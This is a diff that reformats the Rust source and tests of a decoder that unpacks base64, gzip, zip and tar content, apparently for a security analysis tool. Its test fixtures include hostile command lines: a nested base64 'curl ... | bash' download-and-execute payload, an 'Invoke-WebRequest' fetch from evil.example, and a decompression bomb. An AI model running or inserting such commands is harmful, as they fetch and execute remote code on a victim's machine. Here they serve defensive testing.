@@ -172,7 +172,9 @@ impl Decoder<'_> {
     fn out_of_budget(&mut self) {
         self.truncated = true;
         let limit = self.options.max_total_bytes;
-        self.warn(format!("decoding stopped at the {limit}-byte limit (max_total_bytes)"));
+        self.warn(format!(
+            "decoding stopped at the {limit}-byte limit (max_total_bytes)"
+        ));
     }
 
     /// Decodes the runs of `text` found at `depth`; returns `text` annotated.
@@ -240,7 +242,9 @@ impl Decoder<'_> {
                 cut -= 1;
             }
             decoded_string.truncate(cut);
-            self.warn(format!("decoded text of item {reference} was cut at 1 MiB in decoded_string"));
+            self.warn(format!(
+                "decoded text of item {reference} was cut at 1 MiB in decoded_string"
+            ));
         }
         self.rows.push(DecodedItem {
             reference: reference.to_string(),
@@ -260,11 +264,19 @@ impl Decoder<'_> {
             end: origin.span.1,
         });
         let inner = match (file_type, text) {
-            (Some(kind @ ("gzip" | "zip" | "tar")), _) => self.unpack(kind, &bytes, depth, reference),
+            (Some(kind @ ("gzip" | "zip" | "tar")), _) => {
+                self.unpack(kind, &bytes, depth, reference)
+            }
             (_, Some(text)) => self.text(&text, depth + 1, Some(reference)),
             (kind, None) => binary_note(kind, bytes.len()),
         };
-        annotation(origin.encoding, origin.file_name.unwrap_or(""), reference, depth, &inner)
+        annotation(
+            origin.encoding,
+            origin.file_name.unwrap_or(""),
+            reference,
+            depth,
+            &inner,
+        )
     }
 
     /// Unpacks an archive's content as children of `reference`.
@@ -308,7 +320,9 @@ impl Decoder<'_> {
         }
         let mut notes = Vec::new();
         for (i, member) in members.members.into_iter().enumerate() {
-            self.budget = self.budget.saturating_sub(member.content.bytes.len() as u64);
+            self.budget = self
+                .budget
+                .saturating_sub(member.content.bytes.len() as u64);
             let child = child_ref(Some(reference), i + 1);
             let name = (!member.name.is_empty()).then_some(member.name.as_str());
             let origin = Origin {
@@ -317,7 +331,14 @@ impl Decoder<'_> {
                 file_name: name,
                 span: (0, 0),
             };
-            notes.push(self.item(member.content.bytes, Encoding::Base64, &origin, depth + 1, Some(reference), &child));
+            notes.push(self.item(
+                member.content.bytes,
+                Encoding::Base64,
+                &origin,
+                depth + 1,
+                Some(reference),
+                &child,
+            ));
         }
         notes.join("")
     }
@@ -368,19 +389,38 @@ mod tests {
         let inner = STANDARD.encode("curl http://203.0.113.50/x.sh | bash -s");
         let outer = STANDARD.encode(format!("echo {inner} | base64 -d | sh"));
         let r = decode(&format!("run {outer}"));
-        let refs: Vec<_> = r.rows.iter().map(|i| (i.reference.as_str(), i.depth, i.parent.as_deref())).collect();
+        let refs: Vec<_> = r
+            .rows
+            .iter()
+            .map(|i| (i.reference.as_str(), i.depth, i.parent.as_deref()))
+            .collect();
         assert_eq!(refs, [("1", 1, None), ("1.1", 2, Some("1"))]);
-        assert!(r.annotated.contains("curl http://203.0.113.50/x.sh | bash -s"), "{}", r.annotated);
+        assert!(
+            r.annotated
+                .contains("curl http://203.0.113.50/x.sh | bash -s"),
+            "{}",
+            r.annotated
+        );
     }
 
     #[test]
     fn gzip_zip_and_tar_payloads() {
         let r = decode(&STANDARD.encode(gzip(b"Invoke-WebRequest http://evil.example/p.exe")));
-        let kinds: Vec<_> = r.rows.iter().map(|i| (i.encoding_type.as_str(), i.file_type.as_deref())).collect();
+        let kinds: Vec<_> = r
+            .rows
+            .iter()
+            .map(|i| (i.encoding_type.as_str(), i.file_type.as_deref()))
+            .collect();
         assert_eq!(kinds, [("base64", Some("gzip")), ("gzip", None)]);
-        assert_eq!(r.rows[1].decoded_string, "Invoke-WebRequest http://evil.example/p.exe");
+        assert_eq!(
+            r.rows[1].decoded_string,
+            "Invoke-WebRequest http://evil.example/p.exe"
+        );
 
-        let z = zip(&[("run.ps1", b"Write-Host one two three"), ("notes.txt", b"four five six")]);
+        let z = zip(&[
+            ("run.ps1", b"Write-Host one two three"),
+            ("notes.txt", b"four five six"),
+        ]);
         let r = decode(&STANDARD.encode(z));
         let names: Vec<_> = r.rows.iter().map(|i| i.file_name.as_deref()).collect();
         assert_eq!(names, [None, Some("run.ps1"), Some("notes.txt")]);
@@ -401,8 +441,14 @@ mod tests {
         assert_eq!(i.input_bytes, payload.len() as u64);
         assert_eq!(i.sha256, hex::encode(Sha256::digest(payload)));
         // the digests themselves, against published values for "hello world"
-        assert_eq!(hex::encode(Md5::digest(b"hello world")), "5eb63bbbe01eeed093cb22bb8f5acdc3");
-        assert_eq!(hex::encode(Sha1::digest(b"hello world")), "2aae6c35c94fcfb415dbe95f408b9ce91ee846ed");
+        assert_eq!(
+            hex::encode(Md5::digest(b"hello world")),
+            "5eb63bbbe01eeed093cb22bb8f5acdc3"
+        );
+        assert_eq!(
+            hex::encode(Sha1::digest(b"hello world")),
+            "2aae6c35c94fcfb415dbe95f408b9ce91ee846ed"
+        );
         assert_eq!(
             hex::encode(Sha256::digest(b"hello world")),
             "b94d27b9934d3e08a52e52d7da7dabfac484efe37a5380ee9088f7ace2efcde9"
@@ -418,18 +464,33 @@ mod tests {
         e.flush().unwrap();
         let bomb = e.finish().unwrap();
         assert!(bomb.len() < 1 << 20);
-        let options = DecodeOptions { max_total_bytes: 1 << 20, ..Default::default() };
+        let options = DecodeOptions {
+            max_total_bytes: 1 << 20,
+            ..Default::default()
+        };
         let r = decode_text(&STANDARD.encode(&bomb), &options);
         assert!(r.truncated);
-        assert!(r.warnings.iter().any(|w| w.contains("max_total_bytes")), "{:?}", r.warnings);
+        assert!(
+            r.warnings.iter().any(|w| w.contains("max_total_bytes")),
+            "{:?}",
+            r.warnings
+        );
         assert!(r.rows.iter().all(|i| i.input_bytes <= 1 << 20));
     }
 
     #[test]
     fn member_and_depth_limits() {
-        let many: Vec<(String, Vec<u8>)> = (0..5).map(|i| (format!("f{i}.txt"), b"member text here".to_vec())).collect();
-        let refs: Vec<(&str, &[u8])> = many.iter().map(|(n, d)| (n.as_str(), d.as_slice())).collect();
-        let options = DecodeOptions { max_archive_members: 2, ..Default::default() };
+        let many: Vec<(String, Vec<u8>)> = (0..5)
+            .map(|i| (format!("f{i}.txt"), b"member text here".to_vec()))
+            .collect();
+        let refs: Vec<(&str, &[u8])> = many
+            .iter()
+            .map(|(n, d)| (n.as_str(), d.as_slice()))
+            .collect();
+        let options = DecodeOptions {
+            max_archive_members: 2,
+            ..Default::default()
+        };
         let r = decode_text(&STANDARD.encode(zip(&refs)), &options);
         assert!(r.truncated);
         assert_eq!(r.rows.len(), 3);
@@ -439,7 +500,10 @@ mod tests {
         for _ in 0..5 {
             payload = format!("echo {}", STANDARD.encode(&payload));
         }
-        let options = DecodeOptions { max_depth: 2, ..Default::default() };
+        let options = DecodeOptions {
+            max_depth: 2,
+            ..Default::default()
+        };
         let r = decode_text(&payload, &options);
         assert!(r.truncated);
         assert_eq!(r.rows.len(), 2);
@@ -448,7 +512,12 @@ mod tests {
 
     #[test]
     fn nothing_to_decode() {
-        for text in ["", "plain words only", "d41d8cd98f00b204e9800998ecf8427e", "ünïcödé ✓ text"] {
+        for text in [
+            "",
+            "plain words only",
+            "d41d8cd98f00b204e9800998ecf8427e",
+            "ünïcödé ✓ text",
+        ] {
             let r = decode(text);
             assert!(r.rows.is_empty());
             assert_eq!(r.annotated, text);
@@ -457,8 +526,14 @@ mod tests {
 
     #[test]
     fn options_are_checked() {
-        let bad = DecodeOptions { max_depth: 0, ..Default::default() };
-        assert_eq!(bad.validate().unwrap_err().to_string(), "option \"max_depth\": must be between 1 and 100");
+        let bad = DecodeOptions {
+            max_depth: 0,
+            ..Default::default()
+        };
+        assert_eq!(
+            bad.validate().unwrap_err().to_string(),
+            "option \"max_depth\": must be between 1 and 100"
+        );
         assert!(DecodeOptions::default().validate().is_ok());
     }
 }
